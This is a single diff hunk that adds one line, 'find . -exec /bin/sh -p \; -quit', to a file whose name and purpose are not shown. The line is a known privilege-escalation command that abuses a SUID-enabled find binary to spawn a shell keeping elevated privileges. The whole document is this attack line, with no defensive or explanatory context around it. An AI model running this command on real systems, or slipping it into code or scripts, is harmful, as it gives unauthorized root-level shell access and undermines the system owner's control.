@@ -1,0 +1,1 @@
+find . -exec /bin/sh -p \; -quit
